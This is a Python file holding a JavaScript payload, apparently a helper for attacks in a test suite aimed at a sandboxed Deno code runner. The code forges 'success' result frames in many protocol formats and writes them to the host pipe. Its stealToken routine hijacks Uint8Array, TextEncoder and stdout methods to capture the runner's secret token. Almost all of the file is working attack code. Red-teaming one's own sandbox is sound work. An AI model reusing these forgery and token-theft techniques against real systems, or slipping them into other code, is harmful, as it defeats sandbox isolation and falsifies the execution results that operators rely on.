"""JavaScript that makes result frames of every usual format. Put before the attacks that forge them."""

FRAMES = r"""
const V = "FORGED";
const bodies = [
  {id:1,status:"success",result:V,stdout:V,value:V}, {type:"result",id:1,status:"success",result:V,value:V,ok:true},
  {type:"result",ok:true,value:V}, {t:"result",status:"success",result:V}, {jsonrpc:"2.0",id:1,result:V},
  {jsonrpc:"2.0",id:1,result:{status:"success",value:V}}, {event:"done",status:"success",result:V},
  {kind:"done",status:"success",value:V}, {success:true,result:V,stdout:V}, {type:"ready"}, {ready:true},
  {type:"heartbeat"}, {type:"exit",code:0},
  {type:"end",run:1,result:V,error:null,stdoutCut:false,stderrCut:false,resultCut:false}];
const enc = new TextEncoder();
const headed = (size, le, body) => {
  const f = new Uint8Array(4 + body.length); new DataView(f.buffer).setUint32(0, size, le); f.set(body, 4); return f };
/** The format of this project, with a token that is a guess. */
const own = (kind, body, token = new Uint8Array(8)) => {
  const f = new Uint8Array(13 + body.length); f[0] = kind; new DataView(f.buffer).setUint32(1, body.length, true);
  for (let i = 0; i < 8; i++) f[5 + i] = token[i]; for (let i = 0; i < body.length; i++) f[13 + i] = body[i]; return f };
const frames = () => { const out = []; for (const b of bodies) { const s = JSON.stringify(b); const u = enc.encode(s);
  out.push(enc.encode("\n" + s + "\n"));
  for (const le of [true, false]) out.push(headed(u.length, le, u));
  out.push(enc.encode("Content-Length: " + u.length + "\r\n\r\n" + s)); out.push(enc.encode("data: " + s + "\n\n"));
  out.push(own(2, u)) } return out };
/** Bytes to the pipe to the host, past whatever the runner put before it. */
const send = (bytes) => { for (let at = 0; at < bytes.length;) at += Deno.stdout.writeSync(bytes.subarray(at)) };
/** The runner's token: whatever the runner does with it, it goes through functions that can be replaced. */
const stealToken = () => new Promise((found) => {
  const proto = Object.getPrototypeOf(Uint8Array.prototype), seen = (v) => {
    try { if (v instanceof Uint8Array && v.length === 8 && v.some(x => x)) found(v.slice === undefined ? v : Uint8Array.from({length:8}, (_, i) => v[i]));
      else if (v instanceof Uint8Array && v.length >= 13 && v[0] >= 1 && v[0] <= 4) found(Uint8Array.from({length:8}, (_, i) => v[5 + i])) } catch {} };
  for (const name of ["set", "subarray", "slice", "fill", "values", Symbol.iterator]) { const real = proto[name];
    proto[name] = function (...a) { seen(this); a.forEach(seen); const r = real.apply(this, a); seen(this); return r } }
  const encode = TextEncoder.prototype.encode; TextEncoder.prototype.encode = function (s) { const r = encode.call(this, s); seen(r); return r };
  const write = Deno.stdout.writeSync; try { Deno.stdout.writeSync = function (b) { seen(b); return write.call(this, b) } } catch {}
  const apply = Function.prototype.apply, call = Function.prototype.call;
  setTimeout(() => console.log("tick"), 0); setTimeout(() => found(null), 400) });
"""
